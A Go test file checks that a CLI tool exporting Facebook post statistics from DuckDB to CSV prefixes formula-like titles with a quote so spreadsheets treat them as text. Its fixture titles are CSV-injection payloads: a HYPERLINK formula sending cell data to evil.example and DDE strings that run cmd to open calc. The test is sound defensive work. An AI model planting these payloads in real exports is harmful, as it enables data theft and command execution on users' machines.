package main

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestQueryCSVKeepsFormulasText loads a Meta Business Suite export whose post titles are
// spreadsheet formulas and commands, and reads the top posts with --format csv: every such
// title comes out with a leading ', so that Excel shows it as text instead of running it;
// numbers, negative ones too, stay numbers. Before, the cells were written raw.
func TestQueryCSVKeepsFormulasText(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "csv.duckdb")
	titles := []string{`=HYPERLINK("http://evil.example/?"&A1,"Klik hier")`, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0", "Gewone titel"}
	var export strings.Builder
	export.WriteString("Post ID,Title,Publish time,Permalink,Impressions,Reach,Link clicks\n")
	for i, title := range titles {
		export.WriteString(strings.Join([]string{
			"1048_" + string(rune('1'+i)), `"` + strings.ReplaceAll(title, `"`, `""`) + `"`, "06/1" + string(rune('1'+i)) + "/2021 09:30",
			"https://www.facebook.com/1048/posts/" + string(rune('1'+i)), string(rune('1'+i)) + "000", "900", "10"}, ",") + "\n")
	}
	posts := filepath.Join(dir, "facebook-berichten.csv")
	writeText(t, posts, export.String())
	bereik(t, "ingest", "--db", db, posts)

	out := bereik(t, "query", "--db", db, "top_posts", "--param", "limit=10", "--format", "csv")
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, c := range recs[0] {
		col[c] = i
	}
	got := map[string]bool{}
	for _, rec := range recs[1:] {
		got[rec[col["title"]]] = true
		if imp := rec[col["impressions"]]; strings.HasPrefix(imp, "'") {
			t.Errorf("a number was neutralised: %q", imp)
		}
	}
	for _, title := range titles {
		want := title
		if title != "Gewone titel" {
			want = "'" + title
		}
		if !got[want] {
			t.Errorf("title %q: not in the CSV as %q; titles: %v", title, want, got)
		}
	}

	// Numbers stay numbers, as numbers or as text (a DECIMAL reaches the CSV as text);
	// text led by a tab or a carriage return does not.
	out = bereik(t, "query", "--db", db, "--sql", "SELECT -5 AS n, -0.25 AS d, '-5' AS t, chr(9) || '=1+1' AS tab, chr(13) || '=1+1' AS cr, '-5 euro' AS x", "--format", "csv")
	if out != "n,d,t,tab,cr,x\n-5,-0.25,-5,'\t=1+1,\"'\r=1+1\",'-5 euro\n" {
		t.Errorf("numbers and text: %q", out)
	}
}

// writeText writes a file of text.
func writeText(tb testing.TB, path, text string) {
	tb.Helper()
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		tb.Fatal(err)
	}
}
